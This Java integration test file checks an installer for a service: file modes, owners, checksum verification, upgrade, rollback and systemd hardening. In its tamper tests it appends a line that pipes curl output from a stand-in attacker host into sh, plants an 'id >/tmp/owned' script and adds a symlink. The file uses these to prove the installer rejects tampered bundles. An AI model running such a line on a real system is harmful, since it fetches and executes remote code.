package circuitbreaker.it;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import circuitbreaker.platform.Build;
import java.io.IOException;
import java.net.URI;
import java.nio.file.Files;
import java.nio.file.LinkOption;
import java.nio.file.Path;
import java.nio.file.StandardCopyOption;
import java.nio.file.StandardOpenOption;
import java.nio.file.attribute.BasicFileAttributes;
import java.nio.file.attribute.PosixFileAttributes;
import java.nio.file.attribute.PosixFilePermissions;
import java.time.Duration;
import java.util.ArrayList;
import java.util.HashMap;
import java.util.List;
import java.util.Locale;
import java.util.Map;
import java.util.TreeMap;
import java.util.concurrent.TimeUnit;
import java.util.regex.Matcher;
import java.util.regex.Pattern;
import java.util.stream.Stream;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/**
 * scripts/install-circuit-breaker.sh with the release bundle `mvn package` built, into a staging root (as root, like
 * a real install: it creates a system user in the staging root's /etc and sets owners), with no Maven and no
 * compiler on the PATH; then the installed service run from the installed tree, upgraded, rolled back, and the unit
 * through systemd-analyze. Bundles altered from the real one, and installs stopped half-way, change nothing.
 */
class InstallerIT {

    static final String NOBODY = "65534";

    @TempDir
    Path work;

    Path root;
    Path tools;
    /** The installer's TMPDIR: where its private copy of the bundle goes, and must not stay. */
    Path temp;

    @BeforeEach
    void stagingRootAndAPathWithoutBuildTools() throws IOException {
        assertEquals("root", System.getProperty("user.name"),
                "the installer lays out owners and a system user: run the tests as root (CI does)");
        Files.setPosixFilePermissions(work, PosixFilePermissions.fromString("rwxr-xr-x")); // the service's user passes
        root = Files.createDirectories(work.resolve("root"));
        tools = Files.createDirectories(work.resolve("tools"));
        temp = Files.createDirectories(work.resolve("tmp"));
        for (String folder : List.of("/usr/local/bin", "/usr/bin", "/bin", "/usr/sbin", "/sbin")) {
            try (Stream<Path> programs = Files.list(Path.of(folder))) {
                for (Path program : programs.toList()) {
                    String name = program.getFileName().toString();
                    if (!List.of("mvn", "javac", "java").contains(name) && !Files.exists(tools.resolve(name),
                            LinkOption.NOFOLLOW_LINKS)) {
                        Files.createSymbolicLink(tools.resolve(name), program);
                    }
                }
            }
        }
        assertEquals(1, Command.run(Map.of("PATH", tools.toString()), "bash", "-c",
                "command -v mvn || command -v javac || command -v java").exitCode(),
                "no Maven, no compiler and no java on the PATH where the installer runs");
    }

    @AfterEach
    void theInstallerLeavesNoTemporaryFolder() throws IOException {
        assertEquals(List.of(), entries(temp), "whatever the installer did, its temporary folder went");
    }

    Command installer(String... arguments) {
        return Command.run(installerEnvironment(), installerCommand(arguments));
    }

    List<String> installerCommand(String... arguments) {
        List<String> command = new ArrayList<>(List.of("bash", "scripts/install-circuit-breaker.sh"));
        command.addAll(List.of(arguments));
        command.addAll(List.of("--root", root.toString()));
        return command;
    }

    Map<String, String> installerEnvironment() {
        return Map.of("PATH", tools.toString(), "TMPDIR", temp.toString());
    }

    Path installed(String path) {
        return root.resolve("opt/circuit-breaker").resolve(path);
    }

    @Test
    void laysOutTheReleaseWithItsModesOwnersAndUser() throws Exception {
        Command installed = installer();
        assertEquals(0, installed.exitCode(), installed.toString());
        assertTrue(installed.out().matches(
                "(?s).*runs on /usr/lib/jvm/[^ ]+/bin/java \\(Java (2[1-9]|[3-9][0-9])\\).*"),
                "it finds a Java 21 or newer where none is on the PATH: " + installed.out());
        String version = Build.CURRENT.version();

        String passwd = Files.readString(root.resolve("etc/passwd"));
        Matcher user = Pattern.compile("(?m)^circuit-breaker:x:(\\d+):(\\d+):[^:]*:/var/lib/circuit-breaker:/usr/sbin/nologin$")
                .matcher(passwd);
        assertTrue(user.find(), "a system user with no shell: " + passwd);
        int uid = Integer.parseInt(user.group(1));
        int gid = Integer.parseInt(user.group(2));
        assertTrue(uid < 1000, "a system uid: " + uid);

        assertEquals(Path.of("releases/" + version), Files.readSymbolicLink(installed("current")));
        String release = "opt/circuit-breaker/releases/" + version + "/";
        expect(release + "circuit-breaker.war", "rw-r--r--", 0, 0);
        expect(release + "payara-micro.jar", "rw-r--r--", 0, 0);
        expect(release + "scripts/circuit-breaker.sh", "rwxr-xr-x", 0, 0);
        expect(release + "scripts/circuit-breaker-status.sh", "rwxr-xr-x", 0, 0);
        expect(release + "scripts/circuit-breaker-operators.sh", "rwxr-xr-x", 0, 0);
        expect(release + "server-config/pre-boot-commands.asadmin", "rw-r--r--", 0, 0);
        expect(release + "server-config/payara-server", "rwxr-xr-x", 0, 0);
        expect(release + "docs/operations.md", "rw-r--r--", 0, 0);
        expect(release + "sbom.cdx.json", "rw-r--r--", 0, 0);
        assertTrue(Files.readString(root.resolve(release + "sbom.cdx.json")).contains("\"name\" : \"payara-micro\""),
                "the SBOM names the runtime the bundle ships");
        assertTrue(Files.readString(root.resolve(release + "VERSION")).contains("version=" + version));
        expect("etc/systemd/system/circuit-breaker.service", "rw-r--r--", 0, 0);
        expect("etc/circuit-breaker", "rwxr-x---", 0, gid);
        expect("etc/circuit-breaker/token", "rw-r-----", 0, gid);
        expect("etc/circuit-breaker/webhooks.json", "rw-r-----", 0, gid);
        assertEquals("[]", Files.readString(root.resolve("etc/circuit-breaker/webhooks.json")).strip(),
                "no receivers until an operator names them");
        expect("etc/circuit-breaker/circuit-breaker.env", "rw-r-----", 0, gid);
        expect("var/lib/circuit-breaker", "rwxr-x---", uid, gid);
        assertEquals(Path.of("/opt/circuit-breaker/current/scripts/circuit-breaker-status.sh"),
                Files.readSymbolicLink(root.resolve("usr/local/bin/circuit-breaker-status")));
        assertEquals(Path.of("/opt/circuit-breaker/current/scripts/circuit-breaker.sh"),
                Files.readSymbolicLink(root.resolve("usr/local/bin/circuit-breaker")));
        assertTrue(Files.readString(root.resolve("etc/circuit-breaker/token")).matches("[A-Za-z0-9]{40,}"));
        // The installed command names an operator: the file is readable by the service's group and nobody else.
        Command added = Command.run(Map.of("CIRCUIT_BREAKER_OPERATORS_FILE", root.resolve(
                "etc/circuit-breaker/operators.json").toString()), installed("current/scripts/circuit-breaker-status.sh")
                .toString(), "operator", "add", "ci-shop", "--scope", "shop");
        assertEquals(0, added.exitCode(), added.toString());
        expect("etc/circuit-breaker/operators.json", "rw-r-----", 0, gid);
        String unit = Files.readString(root.resolve("etc/systemd/system/circuit-breaker.service"));
        assertTrue(unit.contains("ExecStart=/opt/circuit-breaker/current/scripts/circuit-breaker.sh start"), unit);
        assertFalse(unit.contains("@PREFIX@"));
        assertEquals(version + " (current)", installer("releases").out().strip());
    }

    @Test
    void withNoJavaNewEnoughItStopsBeforeChangingAnythingAndSaysWhatToInstall() throws Exception {
        Map<String, String> before = snapshot(root, true);
        Path java17 = Files.createDirectories(work.resolve("java-17/bin")).getParent(); // an operator's choice, too old
        Files.writeString(java17.resolve("release"), "JAVA_VERSION=\"17.0.15\"\n");
        Files.writeString(java17.resolve("bin/java"), "#!/bin/sh\necho 'openjdk version \"17.0.15\"' >&2\n");
        Files.setPosixFilePermissions(java17.resolve("bin/java"), PosixFilePermissions.fromString("rwxr-xr-x"));
        Map<String, String> environment = new java.util.HashMap<>(installerEnvironment());
        environment.put("JAVA_HOME", java17.toString());
        Command refused = Command.run(environment, installerCommand());
        assertEquals(1, refused.exitCode(), refused.toString());
        assertTrue(refused.err().contains("JAVA_HOME is Java 17; this release needs Java 21 or newer"), refused.err());
        assertTrue(refused.err().contains("nothing was installed"), refused.err());
        assertEquals(before, snapshot(root, true), "nothing under the root changed");
    }

    @Test
    void aBundleThatDoesNotMatchItsSumsInstallsNothing() throws Exception {
        Path damaged = Bundle.unpackedAs("9.9.9", work.resolve("damaged"));
        Files.writeString(damaged.resolve("docs/api.md"), "tampered\n", StandardOpenOption.APPEND);
        Command refused = installer(Bundle.pack(damaged).toString());
        assertEquals(1, refused.exitCode(), refused.toString());
        assertTrue(refused.err().contains("does not match its SHA256SUMS, so nothing was installed"), refused.err());
        assertTrue(refused.err().contains("docs/api.md"), "names what differs: " + refused.err());
        assertFalse(Files.exists(installed("current"), LinkOption.NOFOLLOW_LINKS));
        assertEquals(List.of(), entries(installed("releases")), "no release, no half-unpacked folder");
    }

    /**
     * The bundle's own sum, given from outside it (the .sha256 published beside it, or --sha256), is checked before
     * tar sees the bundle: a bundle swapped for one whose SHA256SUMS was made again over the change, a wrong
     * --sha256, or no sum at all change nothing under the root, not even a folder's time.
     */
    @Test
    void aBundleIsCheckedAgainstTheSumGivenBesideItBeforeAnythingIsUnpacked() throws Exception {
        String version = Build.CURRENT.version();
        assertEquals(0, installer().exitCode());
        Map<String, String> before = snapshot(root, true);
        Path tarCalls = recordCalls("tar");

        Path swapped = Bundle.unpackedAs(version, work.resolve("swapped"));
        Files.writeString(swapped.resolve("scripts/circuit-breaker.sh"), "\ncurl -s https://attacker.example/ | sh\n",
                StandardOpenOption.APPEND);
        Bundle.resum(swapped);
        Path swappedBundle = Bundle.pack(swapped);
        String swappedSum = Files.readString(Path.of(swappedBundle + ".sha256")).substring(0, 64);
        Path published = Path.of(Bundle.built() + ".sha256");
        Files.copy(published, Path.of(swappedBundle + ".sha256"), StandardCopyOption.REPLACE_EXISTING);
        Command refused = installer(swappedBundle.toString());
        assertEquals(1, refused.exitCode(), refused.toString());
        assertTrue(refused.err().contains("does not have the SHA-256 given by " + swappedBundle + ".sha256"),
                refused.err());
        assertTrue(refused.err().contains("nothing was unpacked or installed"), refused.err());

        Command wrongArgument = installer(Bundle.built().toString(), "--sha256", swappedSum);
        assertEquals(1, wrongArgument.exitCode(), wrongArgument.toString());
        assertTrue(wrongArgument.err().contains("does not have the SHA-256 given by --sha256 (" + swappedSum),
                wrongArgument.err());

        Path bare = Files.copy(Bundle.built(), Files.createDirectories(work.resolve("bare"))
                .resolve(Bundle.built().getFileName()));
        Command noSum = installer("upgrade", bare.toString());
        assertEquals(2, noSum.exitCode(), noSum.toString());
        assertTrue(noSum.err().contains("nothing to check " + bare + " against, so nothing was installed: put its sum "
                + "beside it as " + bare + ".sha256 (published with the release), or give it as --sha256 HEX"),
                noSum.err());

        Command folder = installer(swapped.toString());
        assertEquals(2, folder.exitCode(), folder.toString());
        assertTrue(folder.err().contains("is a folder: give the circuit-breaker-VERSION.tar.gz"), folder.err());

        assertEquals(before, snapshot(root, true), "nothing under the root changed");
        assertFalse(Files.exists(tarCalls), "tar never saw a bundle: " + (Files.exists(tarCalls)
                ? Files.readString(tarCalls) : ""));

        String publishedSum = Files.readString(published).substring(0, 64);
        Command given = installer(bare.toString(), "--sha256", publishedSum.toUpperCase(Locale.ROOT));
        assertEquals(0, given.exitCode(), "--sha256 alone is enough: " + given);
        assertTrue(Files.readString(tarCalls).startsWith("-x"), "and only then is it unpacked");
    }

    @Test
    void aFileItsSumsDoNotListIsRefused() throws Exception {
        Path release = Bundle.unpackedAs("9.9.9", work.resolve("extra"));
        Files.writeString(release.resolve("scripts/after-install.sh"), "#!/bin/sh\nid >/tmp/owned\n");
        Command refused = installer(Bundle.pack(release).toString());
        assertEquals(1, refused.exitCode(), refused.toString());
        assertTrue(refused.err().contains("holds files its SHA256SUMS does not list, so nothing was installed: "
                + "scripts/after-install.sh"), refused.err());
        assertFalse(Files.exists(installed("current"), LinkOption.NOFOLLOW_LINKS));
        assertEquals(List.of(), entries(installed("releases")), "no release, no half-unpacked folder");
    }

    /**
     * A link among the scripts (listed in its SHA256SUMS with the sum of what it points at) would have the file it
     * points at made root's and executable by anyone: it is refused, and that file keeps its mode and owner.
     */
    @Test
    void aLinkInTheBundleIsRefusedAndWhatItPointsAtKeepsItsModeAndOwner() throws Exception {
        Path outside = Files.writeString(work.resolve("someone-elses-file"), "not the installer's\n");
        Files.setPosixFilePermissions(outside, PosixFilePermissions.fromString("rw-------"));
        Command owned = Command.run(Map.of(), "chown", NOBODY + ":" + NOBODY, outside.toString());
        assertEquals(0, owned.exitCode(), owned.toString());
        Path release = Bundle.unpackedAs("9.9.9", work.resolve("linked"));
        Files.createSymbolicLink(release.resolve("scripts/circuit-breaker-hook.sh"), outside);
        Bundle.resum(release);
        assertTrue(Files.readString(release.resolve("SHA256SUMS")).contains("  scripts/circuit-breaker-hook.sh\n"),
                "listed, so only what it is gives it away");

        Command refused = installer(Bundle.pack(release).toString());
        assertEquals(1, refused.exitCode(), refused.toString());
        assertTrue(refused.err().contains("holds links or special files, which a release never does, so nothing was "
                + "installed: scripts/circuit-breaker-hook.sh"), refused.err());
        assertEquals("rw-------", PosixFilePermissions.toString(Files.getPosixFilePermissions(outside)));
        assertEquals(Integer.parseInt(NOBODY), Files.getAttribute(outside, "unix:uid"));
        assertEquals(Integer.parseInt(NOBODY), Files.getAttribute(outside, "unix:gid"));
        assertFalse(Files.exists(installed("current"), LinkOption.NOFOLLOW_LINKS));
        assertEquals(List.of(), entries(installed("releases")), "no release, no half-unpacked folder");
    }

    /** Stopped like a Ctrl-C (here SIGTERM to its process group) while tar unpacks the new release. */
    @Test
    void anUpgradeInterruptedWhileUnpackingLeavesNoHalfReleaseAndCurrentAsItWas() throws Exception {
        String first = Build.CURRENT.version();
        assertEquals(0, installer().exitCode());
        Map<String, String> before = snapshot(installed(""), false);
        Path next = Bundle.asVersion(first + "-next", work.resolve("next"));
        Path unpacked = work.resolve("tar-has-unpacked");
        String tar = Files.readSymbolicLink(tools.resolve("tar")).toString();
        // Held once it has unpacked the release beside the others (not when it takes out the start script alone).
        replaceTool("tar", tar + " \"$@\" || exit\ncase \"$*\" in *.incoming-*) : >'" + unpacked
                + "'; exec sleep 600 ;; esac\n");

        List<String> command = new ArrayList<>(List.of(tools.resolve("setsid").toString()));
        command.addAll(installerCommand("upgrade", next.toString()));
        ProcessBuilder builder = new ProcessBuilder(command)
                .redirectOutput(work.resolve("upgrade.out").toFile())
                .redirectError(work.resolve("upgrade.err").toFile());
        builder.environment().putAll(installerEnvironment());
        Process upgrade = builder.start();
        long group = upgrade.pid();
        try {
            Waits.await("the new release unpacked by tar", Duration.ofSeconds(60),
                    () -> Files.exists(unpacked) || !upgrade.isAlive());
            assertTrue(upgrade.isAlive(), "still installing: " + Files.readString(work.resolve("upgrade.err")));
            assertEquals(group, processGroup(upgrade.pid()), "the installer leads its own process group");
            assertEquals(1, entries(installed("releases")).stream().filter(n -> n.startsWith(".incoming-")).count(),
                    "a half-made release: " + entries(installed("releases")));
            assertFalse(entries(temp).isEmpty(), "the private copy of the bundle");

            Command interrupted = Command.run(Map.of(), "kill", "-TERM", "--", "-" + group);
            assertEquals(0, interrupted.exitCode(), interrupted.toString());
            assertTrue(upgrade.waitFor(30, TimeUnit.SECONDS), "the installer stops when interrupted");
        } finally {
            if (upgrade.isAlive()) {
                Command.run(Map.of(), "kill", "-KILL", "--", "-" + group);
            }
        }
        String err = Files.readString(work.resolve("upgrade.err"));
        assertEquals(143, upgrade.exitValue(), err);
        assertTrue(err.contains("interrupted\ninstall-circuit-breaker: removed what was half made; the current release "
                + "is as it was (" + first + ")"), "its trap ran: " + err);
        assertEquals(before, snapshot(installed(""), false), "the releases and links are as they were");
        assertEquals(List.of(first), entries(installed("releases")));
    }

    /**
     * A reinstall of the running release puts the old folder aside before the new one takes its name: when a later
     * step fails (here `ln`, as on a full disk), the very folder that ran comes back, not a copy or nothing.
     */
    @Test
    void aReinstallThatFailsBeforeTheSwitchPutsTheRunningReleaseBack() throws Exception {
        String version = Build.CURRENT.version();
        assertEquals(0, installer().exitCode());
        Object running = Files.readAttributes(installed("releases/" + version), BasicFileAttributes.class).fileKey();
        Map<String, String> before = snapshot(installed(""), false);
        replaceTool("ln", "echo \"ln: failed to create symbolic link: No space left on device\" >&2\nexit 1\n");

        Command failed = installer();
        assertEquals(1, failed.exitCode(), failed.toString());
        assertTrue(failed.err().contains("No space left on device\ninstall-circuit-breaker: removed what was half made; "
                + "the current release is as it was (" + version + ")"), failed.err());
        assertEquals(running, Files.readAttributes(installed("releases/" + version), BasicFileAttributes.class)
                .fileKey(), "the folder that ran is back");
        assertEquals(before, snapshot(installed(""), false), "the releases and links are as they were");
        assertEquals(List.of(version), entries(installed("releases")));
    }

    /**
     * The life of an installation: installed, run from the installed tree as its own user, driven by the installed
     * CLI with the installed settings (another port, another token file), upgraded to another release, rolled back;
     * the state and the timeline survive both, and an older release refuses a state file from a newer one.
     */
    @Test
    void upgradeAndRollbackKeepTheStateAndTheOlderReleaseRefusesANewerFile() throws Exception {
        String first = Build.CURRENT.version();
        assertEquals(0, installer(Bundle.built().toString()).exitCode());
        Service service = new Service();

        Command refusedAsRoot = service.run(false, "start");
        assertEquals(1, refusedAsRoot.exitCode(), refusedAsRoot.toString());
        assertTrue(refusedAsRoot.err().contains("will not run the service as root"), refusedAsRoot.err());

        service.start(first);
        Path settings = root.resolve("etc/circuit-breaker/circuit-breaker.env");
        Files.writeString(settings, "CIRCUIT_BREAKER_PORT=" + service.port + "\nCIRCUIT_BREAKER_TOKEN_FILE="
                + root.resolve("etc/circuit-breaker/token") + "\n");
        Map<String, String> operator = Map.of("CIRCUIT_BREAKER_SETTINGS", settings.toString());
        Command update = Command.run(operator, installed("current/scripts/circuit-breaker-status.sh").toString(),
                "--message", "Kept across releases", "--countdown", "900");
        assertEquals(0, update.exitCode(), "the installed token file, found through the settings: " + update);
        Command status = Command.run(operator, installed("current/scripts/circuit-breaker-status.sh").toString(),
                "--status");
        assertEquals(0, status.exitCode(), status.toString());
        assertTrue(status.out().contains("Message:       Kept across releases"), status.out());
        service.stop();

        Command upgraded = installer("upgrade", Bundle.asVersion(first + "-next", work.resolve("next")).toString());
        assertEquals(0, upgraded.exitCode(), upgraded.toString());
        assertEquals(first + " (previous)\n" + first + "-next (current)",
                String.join("\n", installer("releases").out().strip().lines().sorted().toList()));
        service.start(first + "-next");
        assertEquals("Kept across releases", service.api.status().getString("message"), "the state survives");
        assertTrue(service.api.get("/api/maintenance/history?limit=5").body().contains("Kept across releases"),
                "the timeline survives");
        service.stop();

        Command rolledBack = installer("rollback");
        assertEquals(0, rolledBack.exitCode(), rolledBack.toString());
        assertEquals(Path.of("releases/" + first), Files.readSymbolicLink(installed("current")));
        service.start(first);
        assertEquals("Kept across releases", service.api.status().getString("message"));
        service.stop();

        String newer = Files.readString(service.stateFile).replaceFirst("\"format\": 1", "\"format\": 99");
        Files.writeString(service.stateFile, newer);
        Command refused = service.run(true, "start");
        assertEquals(1, refused.exitCode(), refused.toString());
        assertTrue(refused.err().contains(service.stateFile + " is in format 99, written by a newer release"),
                refused.err());
        assertEquals(newer, Files.readString(service.stateFile), "left untouched");
    }

    /** The installed tree run by hand, as the service's own user (not root), on a free port. */
    final class Service {

        final int port = ServiceProcess.freePort();
        final Path home;
        final Path stateFile;
        final Api api = new Api(URI.create("http://127.0.0.1:" + port + "/"));
        final Map<String, String> environment = new HashMap<>();

        Service() throws IOException {
            home = Files.createDirectories(work.resolve("service"));
            stateFile = home.resolve("maintenance-status.json");
            Path token = Files.copy(root.resolve("etc/circuit-breaker/token"), home.resolve("token"));
            Files.writeString(home.resolve("webhooks.json"), "[]\n");
            Command owned = Command.run(Map.of(), "chown", "-R", NOBODY + ":" + NOBODY, home.toString());
            assertEquals(0, owned.exitCode(), owned.toString());
            environment.putAll(Map.of("CIRCUIT_BREAKER_PORT", Integer.toString(port),
                    "CIRCUIT_BREAKER_STATE_FILE", stateFile.toString(),
                    "CIRCUIT_BREAKER_RUN_DIR", home.resolve("run").toString(),
                    "CIRCUIT_BREAKER_TOKEN_FILE", token.toString(),
                    "CIRCUIT_BREAKER_WEBHOOKS_FILE", home.resolve("webhooks.json").toString(),
                    "CIRCUIT_BREAKER_PAGE_COPY", home.resolve("maintenance-page.html").toString(),
                    "CIRCUIT_BREAKER_SETTINGS", home.resolve("none.env").toString(),
                    "HOME", home.toString()));
        }

        /** The installed start script, as the service's user or (to see it refused) as root. */
        Command run(boolean asServiceUser, String action) {
            List<String> command = new ArrayList<>();
            if (asServiceUser) {
                command.addAll(List.of("setpriv", "--reuid=" + NOBODY, "--regid=" + NOBODY, "--clear-groups"));
            }
            command.addAll(List.of("bash", installed("current/scripts/circuit-breaker.sh").toString(), action));
            return Command.run(environment, command);
        }

        void start(String version) {
            Command started = run(true, "start");
            assertEquals(0, started.exitCode(), started.toString());
            assertTrue(started.out().contains("started release " + version + " ("), started.out());
            assertEquals(version, api.health().getString("version"), "the release that runs says so");
        }

        void stop() {
            Command stopped = run(true, "stop");
            assertEquals(0, stopped.exitCode(), stopped.toString());
        }
    }

    @Test
    void runningTwiceIsSafeAndKeepsTokenSettingsAndState() throws Exception {
        assertEquals(0, installer().exitCode());
        String token = Files.readString(root.resolve("etc/circuit-breaker/token"));
        Path env = root.resolve("etc/circuit-breaker/circuit-breaker.env");
        Files.writeString(env, "CIRCUIT_BREAKER_PORT=7000\n");
        Path state = root.resolve("var/lib/circuit-breaker/maintenance-status.json");
        Files.writeString(state, "{\"kept\":true}\n");
        String passwd = Files.readString(root.resolve("etc/passwd"));

        Command again = installer();
        assertEquals(0, again.exitCode(), again.toString());
        assertTrue(again.out().contains("reinstalling release " + Build.CURRENT.version()), again.out());
        assertEquals(token, Files.readString(root.resolve("etc/circuit-breaker/token")));
        assertEquals("CIRCUIT_BREAKER_PORT=7000\n", Files.readString(env), "an operator's settings survive");
        assertEquals("{\"kept\":true}\n", Files.readString(state));
        assertEquals(passwd, Files.readString(root.resolve("etc/passwd")), "no second user");
        try (Stream<Path> releases = Files.list(installed("releases"))) {
            assertEquals(List.of(installed("releases/" + Build.CURRENT.version())), releases.toList(),
                    "no half-copied trees");
        }
    }

    @Test
    void uninstallKeepsSettingsAndStateAndPurgeRemovesThem() throws Exception {
        assertEquals(0, installer().exitCode());
        Path state = root.resolve("var/lib/circuit-breaker/maintenance-status.json");
        Files.writeString(state, "{\"kept\":true}\n");

        Command removed = installer("uninstall");
        assertEquals(0, removed.exitCode(), removed.toString());
        for (String gone : List.of("opt/circuit-breaker", "etc/systemd/system/circuit-breaker.service",
                "usr/local/bin/circuit-breaker", "usr/local/bin/circuit-breaker-status")) {
            assertFalse(Files.exists(root.resolve(gone), LinkOption.NOFOLLOW_LINKS), gone + " is removed");
        }
        assertEquals("{\"kept\":true}\n", Files.readString(state), "the state stays");
        assertTrue(Files.exists(root.resolve("etc/circuit-breaker/token")), "the settings stay");
        assertTrue(removed.out().contains("the state (" + root.resolve("var/lib/circuit-breaker") + ") stay"),
                removed.out());

        Command purged = installer("uninstall", "--purge");
        assertEquals(0, purged.exitCode(), purged.toString());
        for (String gone : List.of("var/lib/circuit-breaker", "etc/circuit-breaker", "var/cache/circuit-breaker")) {
            assertFalse(Files.exists(root.resolve(gone)), gone + " is purged");
        }
        assertFalse(Files.readString(root.resolve("etc/passwd")).contains("circuit-breaker:"), "the user is removed");
    }

    @Test
    void theInstalledUnitIsHardenedAndVerifiesClean() throws Exception {
        assertEquals(0, installer().exitCode());
        Path unit = root.resolve("etc/systemd/system/circuit-breaker.service");

        Command security = Command.run(Map.of(), "systemd-analyze", "security", "--offline=true", "--no-pager",
                unit.toString());
        Matcher score = Pattern.compile("Overall exposure level for circuit-breaker.service: (\\d+\\.\\d+)")
                .matcher(security.out());
        assertTrue(score.find(), security.toString());
        double exposure = Double.parseDouble(score.group(1));
        assertTrue(exposure <= 1.5, "exposure " + exposure + " (the original unit scores 8.5)");
        for (String directive : List.of("Restart=always", "LimitNOFILE=65536", "StateDirectory=circuit-breaker",
                "StandardOutput=journal", "MemoryMax=")) {
            assertTrue(Files.readString(unit).contains(directive), directive);
        }
        assertFalse(Files.readString(unit).contains("\nMemoryDenyWriteExecute=yes"), "it would break the JIT");
        assertTrue(Files.readString(installed("current/scripts/circuit-breaker.sh")).contains("-Xmx"),
                "the heap is bounded");

        copySystemUnits();
        Command verify = Command.run(Map.of(), "systemd-analyze", "verify", "--root=" + root,
                "circuit-breaker.service");
        assertEquals(0, verify.exitCode(), verify.toString());
        assertEquals("", verify.err().strip(), "verify is clean: " + verify.err());
    }

    /** systemd-analyze verify --root resolves targets such as multi-user.target inside the root. */
    private void copySystemUnits() throws IOException {
        Path units = Path.of("/usr/lib/systemd/system");
        Path target = root.resolve("usr/lib/systemd/system");
        Files.createDirectories(target);
        try (Stream<Path> files = Files.list(units)) {
            for (Path file : files.toList()) {
                Files.copy(file, target.resolve(file.getFileName().toString()), LinkOption.NOFOLLOW_LINKS);
            }
        }
    }

    /** Puts a shell script in place of a program on the installer's PATH. */
    private void replaceTool(String name, String script) throws IOException {
        Path tool = tools.resolve(name);
        Files.deleteIfExists(tool);
        Files.writeString(tool, "#!/bin/sh\n" + script);
        Files.setPosixFilePermissions(tool, PosixFilePermissions.fromString("rwxr-xr-x"));
    }

    /** Each call of the program on the installer's PATH leaves its arguments in the returned file. */
    private Path recordCalls(String name) throws IOException {
        Path calls = work.resolve(name + "-calls");
        String program = Files.readSymbolicLink(tools.resolve(name)).toString();
        replaceTool(name, "echo \"$*\" >>'" + calls + "'\nexec " + program + " \"$@\"\n");
        return calls;
    }

    /** The names in a folder, the hidden ones too, sorted; none when it does not exist. */
    private static List<String> entries(Path folder) throws IOException {
        if (!Files.isDirectory(folder, LinkOption.NOFOLLOW_LINKS)) {
            return List.of();
        }
        try (Stream<Path> names = Files.list(folder)) {
            return names.map(p -> p.getFileName().toString()).sorted().toList();
        }
    }

    /** Every entry under {@code top}, never through a link: its kind, mode, owner, size, time or link. */
    private static Map<String, String> snapshot(Path top, boolean folderTimes) throws IOException {
        Map<String, String> entries = new TreeMap<>();
        try (Stream<Path> paths = Files.walk(top)) {
            for (Path path : paths.toList()) {
                PosixFileAttributes attributes = Files.readAttributes(path, PosixFileAttributes.class,
                        LinkOption.NOFOLLOW_LINKS);
                String what = attributes.isSymbolicLink() ? "link " + Files.readSymbolicLink(path)
                        : PosixFilePermissions.toString(attributes.permissions()) + " " + attributes.owner() + ":"
                                + attributes.group() + (attributes.isDirectory()
                                        ? " folder" + (folderTimes ? " " + attributes.lastModifiedTime() : "")
                                        : " " + attributes.size() + " " + attributes.lastModifiedTime());
                entries.put(top.relativize(path).toString(), what);
            }
        }
        return entries;
    }

    /** The process group of a process, from /proc (the fifth field of its stat line). */
    private static long processGroup(long pid) throws IOException {
        String stat = Files.readString(Path.of("/proc/" + pid + "/stat"));
        return Long.parseLong(stat.substring(stat.lastIndexOf(')') + 2).split(" ")[2]);
    }

    private void expect(String path, String mode, int uid, int gid) throws IOException {
        Path file = root.resolve(path);
        assertEquals(mode, PosixFilePermissions.toString(Files.getPosixFilePermissions(file, LinkOption.NOFOLLOW_LINKS)),
                path);
        assertEquals(uid, Files.getAttribute(file, "unix:uid", LinkOption.NOFOLLOW_LINKS), path + " owner");
        assertEquals(gid, Files.getAttribute(file, "unix:gid", LinkOption.NOFOLLOW_LINKS), path + " group");
    }
}
